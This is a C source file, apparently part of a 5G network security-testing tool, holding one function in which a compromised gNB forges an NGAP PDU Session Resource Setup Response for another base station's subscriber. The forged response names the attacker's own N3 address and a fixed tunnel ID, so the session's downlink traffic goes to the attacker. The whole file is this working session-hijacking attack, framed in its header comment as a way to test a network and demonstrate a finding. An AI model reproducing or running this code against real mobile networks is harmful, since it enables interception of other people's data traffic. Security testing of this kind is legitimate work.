/* SPDX-License-Identifier: Apache-2.0 */
/* ran_attack.c - what a gNB that its supplier has turned can try. For trying the network, and for showing it. */
#include "cmd/ran.h"

/* Answers, unasked, for a session of another gNB's phone, and names itself as where its packets are to go: the forged PDU
 * SESSION RESOURCE SETUP RESPONSE (TS 38.413 8.2.1) that N2-01 is about. */
int ran_steal_session(struct ran_cmd *r, uint64_t amf_ue_id, uint8_t psi)
{
    uint8_t teid[4] = {0x66, 0x66, 0x66, 0x66}, transfer[128];
    struct ngap_AssociatedQosFlowItem flow = {.qosFlowIdentifier = 1};
    struct ngap_PDUSessionResourceSetupResponseTransfer t = {0};
    const struct net_addr *n3 = &r->o.n3;
    if (!r->cells_up)
        return ERR_STATE;
    t.dLQosFlowPerTNLInformation.uPTransportLayerInformation = (struct ngap_UPTransportLayerInformation){
        .sel = NGAP_UPTransportLayerInformation_gTPTunnel,
        .gTPTunnel = {.transportLayerAddress = {n3->ip, n3->family == 6 ? 128 : 32}, .gTP_TEID = {teid, 4}}};
    t.dLQosFlowPerTNLInformation.associatedQosFlowList.v = &flow;
    t.dLQosFlowPerTNLInformation.associatedQosFlowList.n = 1;
    int n = ngap_transfer_encode(&ngap_desc_PDUSessionResourceSetupResponseTransfer, &t, transfer, sizeof transfer);
    if (n < 0)
        return n;
    struct ngap_PDUSessionResourceSetupItemSURes item = {
        .pDUSessionID = psi, .pDUSessionResourceSetupResponseTransfer = {transfer, (uint32_t)n}};
    struct ngap_PDUSessionResourceSetupResponse m = {.AMF_UE_NGAP_ID = amf_ue_id, .RAN_UE_NGAP_ID = 1};
    m.has.AMF_UE_NGAP_ID = m.has.RAN_UE_NGAP_ID = m.has.PDUSessionResourceSetupListSURes = 1;
    m.PDUSessionResourceSetupListSURes.v = &item;
    m.PDUSessionResourceSetupListSURes.n = 1;
    return gnb_send(&r->cells[0].gnb, NGAP_MSG_PDUSessionResourceSetupResponse, &m, 0);
}
